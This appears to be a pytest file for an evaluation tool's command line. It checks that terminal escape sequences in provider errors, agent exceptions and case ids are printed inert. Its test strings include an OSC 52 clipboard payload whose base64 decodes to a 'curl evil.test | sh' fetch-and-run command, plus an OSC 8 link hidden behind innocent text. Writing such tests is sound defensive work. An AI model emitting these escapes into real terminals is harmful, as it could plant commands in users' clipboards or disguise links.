"""Terminal escapes from outside data: a provider's error body, an agent's exception, a case
id. Every line the command line prints shows their control characters as escapes, so none
can write the clipboard (OSC 52), hide a link (OSC 8), clear the screen or rewrite a line."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from conftest import make_case, write_jsonl

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07"  # OSC 52: set the clipboard
HIDDEN_LINK = "\x1b]8;;https://evil.test/\x1b\\docs\x1b]8;;\x1b\\"  # OSC 8 with ST ends
CLEAR = "\x1b[2J\x1b[H"  # CSI: clear the screen, cursor home
C1_CSI = "\x9b31m"  # the one-character CSI of 8-bit terminals
HOSTILE = f"bad {CLIPBOARD} see {HIDDEN_LINK} {CLEAR}{C1_CSI} done\rPASS"
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


class HostileErrors(BaseHTTPRequestHandler):
    """An OpenAI-compatible server whose 400 error body carries terminal escapes."""

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["Content-Length"]))
        body = json.dumps({"error": {"message": HOSTILE, "type": "invalid_request_error"}})
        data = body.encode()
        self.send_response(400)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def hostile_server() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), HostileErrors)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}/v1"
    server.shutdown()
    server.server_close()


AGENT = f"""
def run(case, settings):
    raise RuntimeError({HOSTILE!r})
"""


def test_terminal_safe_shows_controls_and_keeps_text() -> None:
    from assay.core.text import terminal_safe

    shown = terminal_safe(HOSTILE + "\ttab\nnext line é 日本")
    assert not CONTROL.search(shown)
    assert "\\x1b]52;c;" in shown and "\\x07" in shown and "\\x9b31m" in shown
    assert "\\x0dPASS" in shown  # a carriage return cannot rewrite the line
    assert shown.endswith("\ttab\nnext line é 日本")
    assert terminal_safe("plain text\n") == "plain text\n"


def test_outside_text_reaches_the_terminal_inert(
    cli, tmp_path: Path, hostile_server: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-terminal-escapes")
    monkeypatch.chdir(tmp_path)
    (tmp_path / "agent.py").write_text(AGENT)
    cases = write_jsonl(
        tmp_path / "cases.jsonl",
        [make_case(f"c{CLEAR}1", expect={"contains": ["x"]}), make_case("c2")],
    )
    runs = {
        "agent": ["--model", f"python:{tmp_path / 'agent.py'}:run", "--allow-unmetered"],
        "provider": ["--model", "openai:gpt-4o-mini", "--base-url", hostile_server],
    }
    for name, flags in runs.items():
        result = cli(
            "run", "--cases", cases, *flags, "--retries", "0", "--store", tmp_path / "a.db",
            "--output", tmp_path / f"{name}.jsonl",
        )  # fmt: skip
        printed = result.stdout + result.stderr
        assert result.code == 3, printed
        assert "\\x1b]52;c;" in printed, (name, printed)  # the error was printed, inert
        assert not CONTROL.search(printed), (name, repr(printed))
    report = cli(
        "report", "--trials", tmp_path / "agent.jsonl", "--cases", cases, "--scorer",
        "contains", "--out", tmp_path / "r",
    )  # fmt: skip
    printed = report.stdout + report.stderr
    assert report.code in (1, 3) and "c\\x1b[2J" in printed, printed
    assert not CONTROL.search(printed), repr(printed)
